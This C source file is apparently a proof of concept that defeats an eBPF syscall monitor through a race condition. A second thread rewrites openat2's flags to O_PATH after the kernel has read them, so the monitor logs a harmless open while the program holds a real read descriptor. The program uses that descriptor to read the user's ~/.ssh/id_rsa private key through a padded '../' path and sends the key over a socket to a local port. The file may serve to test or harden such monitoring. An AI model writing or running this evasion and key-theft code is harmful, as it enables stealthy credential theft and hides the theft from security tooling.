/* openat2 with open_how rewritten by another thread: the kernel copies open_how at the call's
 * entry; a sibling thread then rewrites the user memory's flags to O_PATH, so a capture that
 * reads them again at the exit sees an O_PATH open where the kernel made an O_RDONLY one. The
 * eBPF capture takes those bits from the file opened instead. Retries until it holds a real
 * O_RDONLY fd, then reads the key and sends it to 127.0.0.1:PORT. Usage: flip_openat2 PORT */
#define _GNU_SOURCE
#include <arpa/inet.h>
#include <fcntl.h>
#include <linux/openat2.h>
#include <netinet/in.h>
#include <pthread.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>
#include <sys/syscall.h>
#include <unistd.h>
#include <sched.h>
#include <time.h>

static struct open_how how;
static volatile int go, done;
static volatile long delay;

static volatile int alive;
static void pin(int cpu) { cpu_set_t s; CPU_ZERO(&s); CPU_SET(cpu, &s); sched_setaffinity(0, sizeof(s), &s); }
static void *flipper(void *unused)
{
    pin(1);
    alive = 1;
    int seen = 0;
    for (;;) {
        while (go == seen) { }
        seen = go;
        for (volatile long i = 0; i < delay; i++) { }
        __atomic_store_n(&how.flags, (unsigned long long)O_PATH, __ATOMIC_SEQ_CST);
    }
    return NULL;
}

int main(int argc, char **argv)
{
    int port = atoi(argv[1]);
    char path[4096];
    const char *home = getenv("HOME");
    int n = snprintf(path, sizeof(path), "%s/.ssh/", home);
    while (n < 3900) n += snprintf(path + n, sizeof(path) - n, "../.ssh/");
    snprintf(path + n, sizeof(path) - n, "id_rsa");
    pthread_t t;
    pin(0);
    pthread_create(&t, NULL, flipper, NULL);
    while (!alive) { }
    if (getenv("CALIBRATE")) {
        /* outside the gate: how long the open takes, to size the window */
        struct timespec a, b; clock_gettime(CLOCK_MONOTONIC, &a);
        struct open_how h = {0};
        for (int i = 0; i < 100; i++) close((int)syscall(SYS_openat2, AT_FDCWD, path, &h, sizeof(h)));
        clock_gettime(CLOCK_MONOTONIC, &b);
        fprintf(stderr, "openat2 takes %.1f us\n", ((b.tv_sec - a.tv_sec) * 1e9 + (b.tv_nsec - a.tv_nsec)) / 100 / 1000.0);
    }
    for (int attempt = 0; attempt < 200000; attempt++) {
        how.flags = O_RDONLY;
        how.resolve = 0;
        __sync_synchronize();
        go++;
        int fd = (int)syscall(SYS_openat2, AT_FDCWD, path, &how, sizeof(how));
        if (fd < 0) { perror("openat2"); return 1; }
        int fl = fcntl(fd, F_GETFL);
        if (fl & O_PATH) { close(fd); delay += 1; continue; }
        char buf[4096];
        ssize_t got = read(fd, buf, sizeof(buf));
        fprintf(stderr, "won at attempt %d delay %ld: read %zd bytes with a real O_RDONLY fd\n", attempt, delay, got);
        int s = socket(AF_INET, SOCK_STREAM, 0);
        struct sockaddr_in a = {.sin_family = AF_INET, .sin_port = htons(port)};
        inet_pton(AF_INET, "127.0.0.1", &a.sin_addr);
        if (connect(s, (void *)&a, sizeof(a)) == 0) write(s, buf, got);
        close(s);
        return 0;
    }
    fprintf(stderr, "no win\n");
    return 1;
}
